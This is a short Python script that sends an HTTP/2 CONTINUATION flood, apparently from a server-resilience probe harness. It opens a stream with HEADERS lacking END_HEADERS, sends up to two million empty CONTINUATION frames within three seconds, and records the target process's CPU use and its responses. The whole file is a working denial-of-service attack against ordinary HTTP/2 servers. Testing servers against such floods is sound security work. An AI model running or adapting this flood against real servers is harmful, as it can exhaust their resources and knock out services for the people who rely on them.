#!/usr/bin/env python3
# CONTINUATION flood variant: zero-length CONTINUATION frames after HEADERS without END_HEADERS (bounded 3 s).
import sys, time, os
sys.path.insert(0, "/tmp/s42/probe")
from h2probe import Conn, summarize, BASE
from hyperframe.frame import SettingsFrame, ContinuationFrame
pid = int(sys.argv[2])  # usage: h2contempty.py PORT PID
def cpu():
    f = open(f"/proc/{pid}/stat").read().split(")")[1].split(); return (int(f[11]) + int(f[12])) / os.sysconf("SC_CLK_TCK")
c0 = cpu(); c = Conn(); c.send(SettingsFrame(0, flags=["ACK"])); c.send(c.hdrs(1, BASE, end_headers=False))
n = 0; t0 = time.time(); err = None
while time.time() - t0 < 3 and n < 2_000_000:
    try: c.send(*[ContinuationFrame(1)] * 1000)
    except Exception as e: err = repr(e); break
    n += 1000
frames, how = c.read_frames(2)
print(f"sent {n} empty CONTINUATION in {time.time()-t0:.2f}s (err={err}); server: {summarize([f for f in frames if type(f).__name__!='SettingsFrame'])} [{how}] cpu+{cpu()-c0:.2f}s")
